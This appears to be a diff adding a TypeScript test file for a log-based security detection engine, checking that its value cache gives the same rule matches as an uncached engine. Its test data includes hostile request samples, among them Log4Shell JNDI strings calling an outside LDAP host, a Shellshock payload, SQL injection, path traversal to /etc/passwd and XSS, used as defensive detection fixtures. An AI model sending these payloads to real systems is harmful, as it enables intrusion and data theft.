@@ -1,0 +1,137 @@
+// The field value memo (src/rules/value-memo.ts) must give exactly the answers the rules give without it: checked
+// on the table itself (bounded, copies, collisions evict) and on the engine, whose long-lived memo is compared with a
+// fresh engine for every record (nothing remembered) on repeated, random, hostile and colliding values.
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import fc from 'fast-check';
+import { BUILTIN_RULES } from '../../src/rules/builtin/index.js';
+import { compileRules } from '../../src/rules/compile.js';
+import { createEngine } from '../../src/rules/engine.js';
+import { MAX_VALUE_LENGTH, SLOTS, UNSET, ValueMemo, keepable, spot } from '../../src/rules/value-memo.js';
+import type { LogRecord, SecurityEvent } from '../../src/types.js';
+import { rec } from './rec.js';
+
+// Same length (40), and the same characters where spot() reads (every third from the end: 39, 36, ..., 3, 0): one
+// spot, two values that alternate evict each other. The first is a probe (`/.env?`), the second nothing.
+const PROBE_URL = '/.env?' + 'a'.repeat(34);
+const CLEAN_URL = '/.Xnv?' + 'a'.repeat(34);
+
+function memo(active = true): ValueMemo {
+  const m = new ValueMemo('url');
+  m.slot();
+  m.active = active;
+  return m;
+}
+
+describe('ValueMemo', () => {
+  test('the same text in another record finds the same answers; another text gets empty ones', () => {
+    const m = memo();
+    const a = m.answers({ url: '/index.html' })!;
+    const fresh = [...a];
+    a[0] = false;
+    assert.deepEqual(fresh, [UNSET]);
+    assert.equal(m.answers({ url: '/index.html' }), a);
+    assert.equal(m.value, '/index.html');
+    assert.deepEqual(m.answers({ url: '/other' }), [UNSET]);
+  });
+
+  test('nothing is kept when the memo is off, the field is absent or the value too long', () => {
+    assert.equal(memo(false).answers({ url: '/a' }), null);
+    assert.equal(memo().answers({ agent: 'curl/8.5.0' }), null);
+    assert.equal(memo().answers({ url: '/' + 'x'.repeat(MAX_VALUE_LENGTH) }), null);
+    assert.notEqual(memo().answers({ url: '/' + 'x'.repeat(MAX_VALUE_LENGTH - 1) }), null);
+  });
+
+  test('two values on one spot evict each other: each comes back with empty answers', () => {
+    assert.equal(spot(PROBE_URL), spot(CLEAN_URL));
+    const m = memo();
+    m.answers({ url: PROBE_URL })![0] = undefined;
+    assert.deepEqual(m.answers({ url: CLEAN_URL }), [UNSET]);
+    assert.deepEqual(m.answers({ url: PROBE_URL }), [UNSET]);
+  });
+
+  test('it holds at most SLOTS values, whatever it is given', () => {
+    const m = memo();
+    for (let i = 0; i < 3 * SLOTS; i++) m.answers({ url: `/item/${i}?q=${i * 7}` });
+    assert.ok(m.size <= SLOTS, String(m.size));
+    assert.ok(m.size > SLOTS / 2, String(m.size));
+  });
+
+  test('kept groups are copies with the same values', () => {
+    const line = '203.0.113.9 GET /sms/send?phone=13888888888';
+    const groups = { phone: line.slice(32), ip: undefined };
+    const kept = keepable(groups);
+    assert.deepEqual({ ...kept }, { phone: '13888888888', ip: undefined });
+    assert.notEqual(kept, groups);
+    assert.equal(keepable(false), false);
+    assert.equal(keepable(undefined), undefined);
+  });
+});
+
+const rules = compileRules(BUILTIN_RULES);
+
+function access(url: string, agent: string, referer: string, method = 'GET', status = '200'): LogRecord {
+  const fields: Record<string, string> = { ip: '203.0.113.9', method, url, status };
+  if (agent !== '-') fields.agent = agent;
+  if (referer !== '-') fields.referer = referer;
+  // The field values are slices of a longer line, as a parser gives them.
+  const line = `${url}\u0000${agent}\u0000${referer}`;
+  fields.url = line.slice(0, url.length);
+  return rec({ format: 'access', host: null, message: `${method} ${url} HTTP/1.1 ${status}`, fields });
+}
+
+/** What an engine yields for each record, in order: the rule, type and values of every event. */
+function run(engine: ReturnType<typeof createEngine>, records: readonly LogRecord[]): string[] {
+  const out: string[] = [];
+  for (const r of records) {
+    const events: SecurityEvent[] = [];
+    engine(r, (e) => events.push(e));
+    out.push(events.map((e) => `${e.rule}:${e.type}:${e.source.ip}:${e.user}:${e.phone}`).join(' '));
+  }
+  return out;
+}
+
+const URLS = [
+  '/', '/index.html', '/static/app.js', '/.env', '/.git/config', '/search?q=%27%20or%201=1--', '/wp-login.php',
+  '/api/v1/sms/send?phone=13888888888', '/api/send-code?mobile=%2B86%20139%201234%205678', '/register',
+  '/download?file=../../etc/passwd', '/?x=${jndi:ldap://203.0.113.66/a}', '/q?s=%3Cscript%3Ealert(1)', PROBE_URL,
+  CLEAN_URL, '/' + 'a'.repeat(MAX_VALUE_LENGTH + 10) + '/.env', "/x?id=1' union select 1,2--",
+];
+const AGENTS = ['-', 'Mozilla/5.0', 'sqlmap/1.7.2#stable', '() { :; }; /bin/id', '${jndi:ldap://x/a}', '../../etc/passwd', 'curl/8.5.0'];
+const REFERERS = ['-', 'https://example.com/', '${jNdI:ldap://x.example.net/c}', '() { ignored; }; echo'];
+
+describe('the engine with memos answers as without', () => {
+  test('repeated, colliding and long values, and POSTs that are sign-ups', () => {
+    const records = [
+      access(PROBE_URL, 'Mozilla/5.0', '-'), access(CLEAN_URL, 'Mozilla/5.0', '-'), access(PROBE_URL, 'sqlmap/1.7.2', '-'),
+      access('/register', 'Mozilla/5.0', '-', 'POST', '201'), access('/register', 'Mozilla/5.0', '-', 'GET', '200'),
+      access('/register', 'Mozilla/5.0', '-', 'POST', '201'), access('/api/v1/sms/send?phone=13888888888', '-', '-'),
+      access('/api/v1/sms/send?phone=13888888888', '-', '-'),
+    ];
+    assert.deepEqual(run(createEngine({ rules }), records), [
+      'web.probe:web.probe:203.0.113.9:null:null',
+      '',
+      'web.scanner:web.scanner:203.0.113.9:null:null web.probe:web.probe:203.0.113.9:null:null',
+      'web.registration:account.registration:203.0.113.9:null:null',
+      '',
+      'web.registration:account.registration:203.0.113.9:null:null',
+      'web.otp_request:auth.otp_request:203.0.113.9:null:13888888888',
+      'web.otp_request:auth.otp_request:203.0.113.9:null:13888888888',
+    ]);
+  });
+
+  test('on random sequences of known, random and cut values, one engine = a fresh engine per record', () => {
+    const piece = (pool: readonly string[]): fc.Arbitrary<string> => fc.oneof(
+      fc.constantFrom(...pool),
+      fc.string({ maxLength: 30 }),
+      fc.tuple(fc.constantFrom(...pool), fc.nat()).map(([s, n]) => s.slice(0, n % (s.length + 1))),
+    );
+    const record = fc.tuple(piece(URLS), piece(AGENTS), piece(REFERERS), fc.constantFrom('GET', 'POST'), fc.constantFrom('200', '201', '401', '403'))
+      .map(([u, a, r, m, s]) => access(u, a, r, m, s));
+    fc.assert(fc.property(fc.array(record, { minLength: 1, maxLength: 40 }), (records) => {
+      const kept = run(createEngine({ rules }), records);
+      const fresh = records.map((r) => run(createEngine({ rules }), [r])[0]!);
+      assert.deepEqual(kept, fresh);
+    }), { numRuns: 60 });
+  });
+});
